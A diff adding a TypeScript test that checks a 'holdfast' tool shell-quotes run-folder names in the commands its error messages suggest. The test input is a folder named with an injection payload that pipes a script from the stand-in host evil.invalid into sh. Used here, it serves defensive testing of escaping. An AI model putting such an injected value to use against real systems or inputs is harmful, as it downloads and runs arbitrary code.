@@ -62,6 +62,16 @@ describe('runs', () => {
       assert.equal(statSync(folder).uid, 0);
     });
 
+  it('are named in commands that are quoted for a shell', async () => {
+    const folder = join(runs, "a'; curl evil.invalid | sh");
+    mkdirSync(folder);
+    const command = `: ./holdfast judge '${folder.replace("'", "'\\''")}'`;
+    const refused = (error: unknown) => error instanceof UsageError && error.message.endsWith(command);
+    assert.throws(() => readFindings(folder), refused);
+    await writeFile(join(folder, 'findings.json'), '{}');
+    assert.throws(() => readFindings(folder), refused);
+  });
+
   it('do not replace `latest` if it is not a link', async () => {
     await writeFile(join(runs, 'latest'), 'words');
     const { id } = newRunFolder(runs, ['rolling-update']);
